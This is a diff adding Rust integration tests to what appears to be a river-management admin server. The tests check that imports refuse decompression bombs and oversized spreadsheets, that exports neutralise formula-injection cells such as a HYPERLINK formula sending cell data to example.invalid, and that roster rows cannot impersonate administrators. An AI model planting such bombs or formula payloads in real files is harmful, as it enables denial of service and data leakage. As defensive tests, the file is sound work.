@@ -358,7 +358,10 @@ async fn every_admin_call_is_refused_for_non_admins() {
 
 /// Posts raw file bytes to an import endpoint as `token`; status and JSON body.
 async fn upload(s: &TestServer, path: &str, token: &str, bytes: Vec<u8>) -> (u16, Value) {
-    let mut res = awc::Client::default()
+    // awc's default 5 s is too short for a 16 MiB file while other tests load the machine.
+    let mut res = awc::Client::builder()
+        .timeout(std::time::Duration::from_secs(120))
+        .finish()
         .post(format!("{}/api/v1{path}", s.base))
         .insert_header(("Authorization", format!("Bearer {token}")))
         .insert_header(("Content-Type", "application/octet-stream"))
@@ -1411,5 +1414,554 @@ async fn imports_and_exports_refuse_everyone_but_administrators_and_oversized_fi
     assert_eq!(
         s.get("/api/v1/admin/audit", &admin).await.body,
         audit_before
+    );
+}
+
+// ---- hostile files and hostile rows ------------------------------------------------------
+
+/// The roster template with its first sheet's XML changed by `edit` (the other parts as the
+/// server wrote them), zipped again with fast compression.
+async fn template_with_sheet(
+    s: &TestServer,
+    admin: &str,
+    edit: impl Fn(&str) -> String,
+) -> Vec<u8> {
+    use std::io::{Read, Write};
+    let template = download(s, "/admin/roster/template.xlsx", admin).await;
+    let mut from = zip::ZipArchive::new(std::io::Cursor::new(template)).unwrap();
+    let mut to = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_level(Some(1));
+    for i in 0..from.len() {
+        let mut entry = from.by_index(i).unwrap();
+        let name = entry.name().unwrap().into_owned();
+        let mut text = Vec::new();
+        entry.read_to_end(&mut text).unwrap();
+        if name == "xl/worksheets/sheet1.xml" {
+            text = edit(std::str::from_utf8(&text).unwrap()).into_bytes();
+        }
+        to.start_file(name, options).unwrap();
+        to.write_all(&text).unwrap();
+    }
+    to.finish().unwrap().into_inner()
+}
+
+#[actix_web::test]
+async fn a_small_spreadsheet_that_would_fill_memory_is_refused_and_the_server_keeps_serving() {
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let users_before = s.get("/api/v1/admin/users", &admin).await.body.clone();
+
+    // Two cells, A1 and XFD1048576: a few kilobytes that a whole-sheet grid would turn into
+    // seventeen billion cells.
+    let corners = template_with_sheet(&s, &admin, |xml| {
+        xml.replace(
+            "</sheetData>",
+            r#"<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>"#,
+        )
+        .replace(r#"<dimension ref="A1:G1"/>"#, r#"<dimension ref="A1:XFD1048576"/>"#)
+    })
+    .await;
+    assert!(corners.len() < 64 * 1024, "{} bytes", corners.len());
+    for path in ["/admin/import/roster", "/admin/import/divisions"] {
+        let (status, body) = upload(&s, path, &admin, corners.clone()).await;
+        assert_eq!(
+            (status, body["error"].as_str()),
+            (422, Some("bad_import_file")),
+            "{path}: {body}"
+        );
+        assert!(body["message"].as_str().unwrap().contains("行"), "{body}");
+    }
+
+    // A sheet that unpacks to more than 64 MiB (here, spaces between its rows) is refused by
+    // its unpacked size before anything parses it.
+    let padded = template_with_sheet(&s, &admin, |xml| {
+        xml.replace(
+            "</sheetData>",
+            &(" ".repeat(80 * 1024 * 1024) + "</sheetData>"),
+        )
+    })
+    .await;
+    assert!(padded.len() < 16 * 1024 * 1024, "{} bytes", padded.len());
+    let (status, body) = upload(&s, "/admin/import/roster?dry_run=false", &admin, padded).await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (413, Some("payload_too_large")),
+        "{body}"
+    );
+
+    // The server still answers, and nothing was stored.
+    assert_eq!(
+        s.get("/api/v1/admin/users", &admin).await.body,
+        users_before
+    );
+    // A roster sheet with its header in row 1 and a chief in row 3 still reads, by its
+    // spreadsheet row numbers.
+    let sparse = template_with_sheet(&s, &admin, |xml| {
+        let cells: String = [
+            "王河",
+            "",
+            "街道级",
+            "河长",
+            "桑梓店街道",
+            "",
+            "13900000001",
+        ]
+        .iter()
+        .enumerate()
+        .filter(|(_, v)| !v.is_empty())
+        .map(|(i, v)| {
+            format!(
+                r#"<c r="{}3" t="inlineStr"><is><t>{v}</t></is></c>"#,
+                (b'A' + i as u8) as char
+            )
+        })
+        .collect();
+        xml.replace(
+            "</sheetData>",
+            &format!(r#"<row r="3">{cells}</row></sheetData>"#),
+        )
+    })
+    .await;
+    let (status, dry) = upload(&s, "/admin/import/roster", &admin, sparse).await;
+    assert_eq!(status, 200, "{dry}");
+    assert_eq!(outcomes(&dry), ["create"], "{dry}");
+    assert_eq!(dry["rows"][0]["row"], 3, "{dry}");
+}
+
+#[actix_web::test]
+async fn a_zipped_layer_that_unpacks_to_more_than_the_limit_is_refused_and_nothing_stored() {
+    use std::io::{Read, Write};
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let assets_before = s.get("/api/v1/admin/assets", &admin).await.body.clone();
+    let layer = zipped_shapefile(&[(
+        "炸弹河段",
+        "河长",
+        "桑梓店街道",
+        shapefile::Shape::Polyline(shapefile::Polyline::new(vec![
+            shapefile::Point::new(116.95, 36.73),
+            shapefile::Point::new(116.96, 36.74),
+        ])),
+    )]);
+    // The same layer with its attribute table followed by 80 MiB of zeros, which compress to
+    // almost nothing. The reader used to cut the table at 64 MiB and go on quietly.
+    let mut from = zip::ZipArchive::new(std::io::Cursor::new(layer)).unwrap();
+    let mut to = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_level(Some(1));
+    for i in 0..from.len() {
+        let mut entry = from.by_index(i).unwrap();
+        let name = entry.name().unwrap().into_owned();
+        let mut bytes = Vec::new();
+        entry.read_to_end(&mut bytes).unwrap();
+        if name.ends_with(".dbf") {
+            bytes.resize(bytes.len() + 80 * 1024 * 1024, 0);
+        }
+        to.start_file(name, options).unwrap();
+        to.write_all(&bytes).unwrap();
+    }
+    let bomb = to.finish().unwrap().into_inner();
+    assert!(bomb.len() < 1024 * 1024, "{} bytes", bomb.len());
+    let (status, body) = upload(
+        &s,
+        "/admin/import/assets?crs=wgs84&dry_run=false",
+        &admin,
+        bomb,
+    )
+    .await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (413, Some("payload_too_large")),
+        "{body}"
+    );
+    assert_eq!(
+        s.get("/api/v1/admin/assets", &admin).await.body,
+        assets_before
+    );
+}
+
+#[actix_web::test]
+async fn exported_rosters_never_carry_a_formula_and_read_back_unchanged() {
+    use calamine::Reader;
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let formula = r#"=HYPERLINK("http://example.invalid/?"&A1,"点击")"#;
+    let roster = csv_roster(&[
+        [
+            formula,
+            "+1+1",
+            "街道级",
+            "河长",
+            "桑梓店街道",
+            "",
+            "13900000011",
+        ],
+        [
+            "@SUM(1)",
+            "-2+3",
+            "街道级",
+            "河长",
+            "桑梓店街道",
+            "",
+            "13900000012",
+        ],
+    ]);
+    let (status, applied) = upload(&s, "/admin/import/roster?dry_run=false", &admin, roster).await;
+    assert_eq!(status, 200, "{applied}");
+
+    // CSV: every cell that would start a formula opens as text.
+    let csv = download(&s, "/admin/roster/export?format=csv", &admin).await;
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(&csv[3..]);
+    let mut seen = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula in the CSV export: {cell}"
+            );
+            if cell == format!("'{formula}") || cell == "'@SUM(1)" || cell == "'-2+3" {
+                seen += 1;
+            }
+        }
+    }
+    assert_eq!(seen, 3, "the names and posts are kept as text");
+
+    // XLSX: the cells are text, with no formula anywhere.
+    let xlsx = download(&s, "/admin/roster/export", &admin).await;
+    let mut book = calamine::Xlsx::new(std::io::Cursor::new(xlsx.clone())).unwrap();
+    let formulas = book.worksheet_formula("河长名录").unwrap();
+    assert!(
+        formulas.cells().all(|(_, _, f)| f.is_empty()),
+        "a formula in the XLSX export"
+    );
+    let values = book.worksheet_range("河长名录").unwrap();
+    assert!(values.cells().any(|(_, _, v)| *v == formula));
+
+    // Both exports read back as they are: nothing changes.
+    for export in [csv, xlsx] {
+        let (status, again) = upload(&s, "/admin/import/roster", &admin, export).await;
+        assert_eq!(status, 200, "{again}");
+        assert!(outcomes(&again).iter().all(|o| o == "unchanged"), "{again}");
+    }
+}
+
+#[actix_web::test]
+async fn a_roster_cannot_make_or_change_an_administrator_supervisor_or_stopped_chief() {
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let facts = server::demo::facts();
+    let users_before = s.get("/api/v1/admin/users", &admin).await.body.clone();
+    let audit_before = s.get("/api/v1/admin/audit", &admin).await.body.clone();
+    // Rows naming the staff's accounts, in any letter case: each is refused, none becomes a
+    // chief, none is touched.
+    let rows: Vec<[String; 7]> = [ADMIN, SUPERVISOR, HANDLER, "DEMO-ADMIN"]
+        .iter()
+        .map(|who| {
+            [
+                "冒充".into(),
+                "".into(),
+                "街道级".into(),
+                "河长".into(),
+                "桑梓店街道".into(),
+                "".into(),
+                (*who).into(),
+            ]
+        })
+        .collect();
+    let borrowed: Vec<[&str; 7]> = rows
+        .iter()
+        .map(|r| std::array::from_fn(|i| r[i].as_str()))
+        .collect();
+    let roster = csv_roster(&borrowed);
+    let (status, dry) = upload(&s, "/admin/import/roster", &admin, roster.clone()).await;
+    assert_eq!(status, 200, "{dry}");
+    for i in 0..rows.len() {
+        assert_eq!(dry["rows"][i]["outcome"], "refused", "{dry}");
+        assert!(reasons(&dry, i).contains("非河湖林田长账号"), "{dry}");
+    }
+    let (status, body) = upload(&s, "/admin/import/roster?dry_run=false", &admin, roster).await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (422, Some("import_refused"))
+    );
+    assert_eq!(
+        s.get("/api/v1/admin/users", &admin).await.body,
+        users_before
+    );
+    assert_eq!(
+        s.get("/api/v1/admin/audit", &admin).await.body,
+        audit_before
+    );
+
+    // A stopped chief listed again stays stopped and the row says why; the office starts the
+    // account in 人员 (it still holds its old password), after which the row is unchanged.
+    let stopped = facts.user(server::demo::CHIEF_2).unwrap().clone();
+    let exported =
+        String::from_utf8(download(&s, "/admin/roster/export?format=csv", &admin).await).unwrap();
+    let mut lines = exported.lines();
+    let header = lines.next().unwrap().to_owned();
+    let row = lines
+        .find(|l| l.ends_with(&format!(",{}", stopped.username)))
+        .unwrap()
+        .to_owned();
+    let his_row = (header + "\n" + &row + "\n").into_bytes();
+    s.post(
+        &format!("/api/v1/admin/users/{}/deactivate", stopped.id),
+        &admin,
+        json!({}),
+    )
+    .await
+    .expect_ok();
+    let (status, body) = upload(
+        &s,
+        "/admin/import/roster?dry_run=false",
+        &admin,
+        his_row.clone(),
+    )
+    .await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (422, Some("import_refused")),
+        "{body}"
+    );
+    let (_, dry) = upload(&s, "/admin/import/roster", &admin, his_row.clone()).await;
+    assert_eq!(outcomes(&dry), ["refused"], "{dry}");
+    assert!(reasons(&dry, 0).contains("已停用"), "{dry}");
+    let record = s
+        .get(&format!("/api/v1/admin/users/{}", stopped.id), &admin)
+        .await;
+    assert_eq!(
+        record.expect_ok()["user"]["active"],
+        false,
+        "{:?}",
+        record.body
+    );
+    s.request(
+        "PATCH",
+        &format!("/api/v1/admin/users/{}", stopped.id),
+        Some(&admin),
+        Some(json!({"active": true})),
+    )
+    .await
+    .expect_ok();
+    let (status, again) = upload(&s, "/admin/import/roster", &admin, his_row).await;
+    assert_eq!(status, 200, "{again}");
+    assert_eq!(outcomes(&again), ["unchanged"], "{again}");
+}
+
+#[actix_web::test]
+async fn every_administrative_write_is_one_entry_naming_the_administrator_and_no_secret() {
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let admin_id = s
+        .state
+        .store
+        .find_user_by_username(ADMIN)
+        .unwrap()
+        .unwrap()
+        .user
+        .id;
+    let chief = s.state.store.find_user_by_username(CHIEF).unwrap().unwrap();
+    let chief_phone = s.token(CHIEF, "chief-phone").await;
+    let entries = |audit: &Value| audit.as_array().unwrap().len();
+    let mut seen = entries(s.get("/api/v1/admin/audit", &admin).await.expect_ok());
+    let password = "a-secret-pass-123";
+    let mut secrets = vec![password.to_owned()];
+
+    // Each write, the action it must leave, and whether the entry has a before and an after.
+    let division = "370105999000";
+    let asset = json!({"id": "audit-test-river", "system": "river", "name": "审计测试河段",
+        "division": "370105014000", "geometry": line(&[[116.95, 36.73], [116.96, 36.74]])});
+    let writes: Vec<(&str, String, Value, &str, bool, bool)> = vec![
+        (
+            "POST",
+            "/api/v1/admin/users".into(),
+            json!({"username": "audit-staff", "display_name": "审计员", "password": password,
+                "role": {"kind": "handler", "department": "水务局"}}),
+            "user_create",
+            false,
+            true,
+        ),
+        (
+            "POST",
+            format!("/api/v1/admin/users/{}/post", chief.user.id),
+            json!({"post": "街道办副主任"}),
+            // The demo chief had no post before.
+            "post_change",
+            false,
+            true,
+        ),
+        (
+            "POST",
+            format!("/api/v1/admin/users/{}/password", chief.user.id),
+            json!({"password": password}),
+            "password_reset",
+            false,
+            false,
+        ),
+        (
+            "POST",
+            format!("/api/v1/admin/users/{}/setup-code", chief.user.id),
+            json!({}),
+            "setup_code_issued",
+            false,
+            false,
+        ),
+        (
+            "POST",
+            "/api/v1/admin/divisions".into(),
+            json!({"code": division, "name": "审计街道", "parent": "370105000000"}),
+            "division_create",
+            false,
+            true,
+        ),
+        (
+            "PUT",
+            format!("/api/v1/admin/divisions/{division}"),
+            json!({"name": "审计街道二", "parent": "370105000000"}),
+            "division_change",
+            true,
+            true,
+        ),
+        (
+            "POST",
+            "/api/v1/admin/assets".into(),
+            asset.clone(),
+            "asset_create",
+            false,
+            true,
+        ),
+        (
+            "PUT",
+            "/api/v1/admin/assets/audit-test-river".into(),
+            json!({"system": "river", "name": "审计测试河段二", "division": "370105014000",
+                "geometry": asset["geometry"]}),
+            "asset_change",
+            true,
+            true,
+        ),
+    ];
+    for (method, path, body, action, before, after) in writes {
+        let reply = s.request(method, &path, Some(&admin), Some(body)).await;
+        assert!(
+            reply.status.is_success(),
+            "{path}: {} {}",
+            reply.status,
+            reply.body
+        );
+        if let Some(code) = reply.body["code"]
+            .as_str()
+            .filter(|_| path.ends_with("/setup-code"))
+        {
+            secrets.push(code.to_owned());
+        }
+        let audit = s
+            .get("/api/v1/admin/audit", &admin)
+            .await
+            .expect_ok()
+            .clone();
+        assert_eq!(entries(&audit), seen + 1, "{path}: one entry");
+        seen += 1;
+        let e = &audit[0];
+        assert_eq!(e["action"], action, "{path}: {e}");
+        assert_eq!(e["by"], admin_id.as_str(), "{path}: {e}");
+        assert!(e["by_name"].as_str().is_some_and(|n| !n.is_empty()), "{e}");
+        assert!(!e["target"].as_str().unwrap().is_empty(), "{e}");
+        assert_eq!(!e["before"].is_null(), before, "{path}: before in {e}");
+        assert_eq!(!e["after"].is_null(), after, "{path}: after in {e}");
+    }
+    assert_eq!(
+        secrets.len(),
+        2,
+        "the setup code was shown once to the office"
+    );
+
+    // A phone revoked from the desk stops at once; the revocation is audited.
+    s.get("/api/v1/me", &chief_phone)
+        .await
+        .expect_error(401, "device_revoked");
+    let phone = s
+        .login_reply(CHIEF, password, "chief-phone-2")
+        .await
+        .expect_ok()["access_token"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let chief = s.state.store.find_user_by_username(CHIEF).unwrap().unwrap();
+    s.request(
+        "POST",
+        "/api/v1/admin/devices/revoke",
+        Some(&admin),
+        Some(json!({"user_id": chief.user.id, "device_id": "chief-phone-2"})),
+    )
+    .await;
+    s.get("/api/v1/me", &phone)
+        .await
+        .expect_error(401, "device_revoked");
+    let audit = s
+        .get("/api/v1/admin/audit", &admin)
+        .await
+        .expect_ok()
+        .clone();
+    assert_eq!(audit[0]["action"], "device_revoke", "{}", audit[0]);
+    assert_eq!(audit[0]["after"]["device_id"], "chief-phone-2");
+    assert_eq!(audit[0]["by"], admin_id.as_str());
+
+    // No password, setup code or password hash is ever written into the audit.
+    let text = audit.to_string();
+    for secret in &secrets {
+        assert!(!text.contains(secret.as_str()), "a secret in the audit");
+    }
+    assert!(
+        !text.contains("password_hash") && !text.contains("$argon2"),
+        "a hash in the audit"
+    );
+    s.stop().await;
+}
+
+#[actix_web::test]
+async fn an_asset_far_from_every_patrol_track_is_warned_about_in_the_dry_run() {
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    // A position the demo's patrols walked.
+    let tracks = s
+        .get("/api/v1/export/patrols.geojson", &admin)
+        .await
+        .expect_ok()
+        .clone();
+    let walked = tracks["features"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["geometry"]["type"] == "LineString")
+        .expect("a demo patrol track")["geometry"]["coordinates"][0]
+        .clone();
+    let [lon, lat] = [walked[0].as_f64().unwrap(), walked[1].as_f64().unwrap()];
+    let near = feature(
+        "轨迹旁河段",
+        "河长",
+        "桑梓店街道",
+        line(&[[lon, lat], [lon + 0.002, lat + 0.001]]),
+    );
+    // The same segment half a degree east (about 45 km): a file in the wrong coordinate
+    // system, or of another district, looks like this.
+    let far = feature(
+        "远处河段",
+        "河长",
+        "桑梓店街道",
+        line(&[[lon + 0.5, lat], [lon + 0.502, lat + 0.001]]),
+    );
+    let body =
+        serde_json::to_vec(&json!({"type": "FeatureCollection", "features": [near, far]})).unwrap();
+    let (status, dry) = upload(&s, "/admin/import/assets?crs=wgs84", &admin, body).await;
+    assert_eq!(status, 200, "{dry}");
+    assert_eq!(outcomes(&dry), ["create", "create"], "{dry}");
+    assert!(dry["rows"][0]["warning"].is_null(), "{dry}");
+    let warning = dry["rows"][1]["warning"].as_str().unwrap_or_default();
+    assert!(
+        warning.contains("公里") && warning.contains("坐标系"),
+        "{dry}"
     );
 }
